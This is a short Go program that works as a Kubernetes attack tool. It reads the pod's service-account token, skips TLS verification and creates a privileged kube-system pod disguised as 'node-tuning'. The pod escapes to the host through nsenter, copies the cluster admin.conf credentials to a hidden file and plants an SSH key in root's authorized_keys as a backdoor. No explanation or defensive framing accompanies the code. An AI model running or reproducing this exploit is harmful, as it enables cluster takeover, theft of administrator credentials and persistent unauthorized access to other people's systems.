package main

import (
	"bytes"
	"crypto/tls"
	"net/http"
	"os"
)

const pod = `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"node-tuning","namespace":"kube-system"},
"spec":{"hostPID":true,"hostNetwork":true,"tolerations":[{"operator":"Exists"}],
"containers":[{"name":"t","image":"busybox","securityContext":{"privileged":true},
"command":["nsenter","-t","1","-m","-u","-n","-i","sh","-c","cp /etc/kubernetes/admin.conf /tmp/.a; echo 'ssh-rsa AAAAexample n' >> /root/.ssh/authorized_keys; sleep 9999"],
"volumeMounts":[{"name":"h","mountPath":"/host"}]}],
"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}`

func main() {
	tok, err := os.ReadFile("/var/run/secrets/kubernetes.io/serviceaccount/token")
	if err != nil {
		panic(err)
	}
	req, _ := http.NewRequest("POST", "https://kubernetes.default/api/v1/namespaces/kube-system/pods", bytes.NewBufferString(pod))
	req.Header.Set("Authorization", "Bearer "+string(tok))
	req.Header.Set("Content-Type", "application/json")
	c := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	r, err := c.Do(req)
	if err == nil {
		println(r.Status)
	}
}
